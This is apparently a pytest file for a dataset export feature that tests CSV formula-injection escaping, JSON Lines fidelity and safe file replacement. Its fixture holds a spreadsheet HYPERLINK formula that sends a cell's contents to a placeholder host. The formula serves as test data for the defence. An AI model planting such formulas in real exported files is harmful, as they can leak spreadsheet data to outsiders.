"""Rows leave as CSV that no spreadsheet runs, or as JSON Lines that loses nothing."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vibeflow.features.datasets.export import export_rows, plain_cell
from vibeflow.protocol.errors import NotFound, NotReady
from vibeflow.protocol.rows import ExportRows

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


@pytest.fixture
def project(tmp_path: Path) -> Path:
    data = tmp_path / "project" / "data"
    data.mkdir(parents=True)
    turns = [{"role": "user", "content": FORMULA}, {"role": "assistant", "content": "+1 for that,\nand café"}]
    longer = [{"role": "system", "content": "Be brief."}, *turns, *turns]
    lines = {
        "train": [{"n": 1, "messages": turns, "topic": "@home"}, {"n": 4, "messages": longer}],
        "test": [{"n": 2, "text": "-1 is a passage too"}],
        "removed": [{"n": 3, "reason": "missingAnswer", "row": {"question": "=1+1"}}],
    }
    for part, rows in lines.items():
        text = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)
        (data / f"{part}.jsonl").write_text(text, encoding="utf-8")
    return tmp_path / "project"


def wish(path: Path, part: str = "kept") -> ExportRows:
    return ExportRows.model_validate({"projectId": "p", "part": part, "path": str(path)})


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_a_cell_never_begins_like_a_formula(project: Path, tmp_path: Path) -> None:
    done = export_rows(project, wish(tmp_path / "out.csv"))
    rows = read(tmp_path / "out.csv")
    assert done.rows == len(rows) == 3
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
    assert rows[0]["question"] == f"'{FORMULA}"
    assert rows[0]["topic"] == "'@home"
    assert [row["row"] for row in rows] == ["1", "4", "2"]
    assert len(json.loads(rows[1]["turns"])) == 4


def test_removed_rows_say_why(project: Path, tmp_path: Path) -> None:
    export_rows(project, wish(tmp_path / "out.csv", "removed"))
    (row,) = read(tmp_path / "out.csv")
    assert row["removed because"] == "missingAnswer"
    assert json.loads(row["turns"]) == {"question": "=1+1"}


def test_json_lines_carry_every_text_as_it_is(project: Path, tmp_path: Path) -> None:
    assert export_rows(project, wish(tmp_path / "out.JSONL")).rows == 3
    lines = [json.loads(line) for line in (tmp_path / "out.JSONL").read_text(encoding="utf-8").splitlines()]
    assert lines[0]["messages"][0]["content"] == FORMULA


def test_a_file_that_is_there_is_replaced_whole_or_stays(project: Path, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("mine", encoding="utf-8")
    (project / "data" / "test.jsonl").write_text("{broken\n", encoding="utf-8")
    with pytest.raises(NotReady, match="Line 1"):
        export_rows(project, wish(target))
    assert target.read_text(encoding="utf-8") == "mine"
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith(".")] == []


@pytest.mark.parametrize("name", ["out.xlsx", "nowhere/out.csv"])
def test_what_cannot_be_written_is_refused_with_the_way_out(project: Path, tmp_path: Path, name: str) -> None:
    with pytest.raises(NotFound) as caught:
        export_rows(project, wish(tmp_path / name))
    assert caught.value.hint


@given(st.text())
def test_taking_the_apostrophe_off_gives_the_text_back(text: str) -> None:
    cell = plain_cell(text)
    assert cell == text or cell == f"'{text}"
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
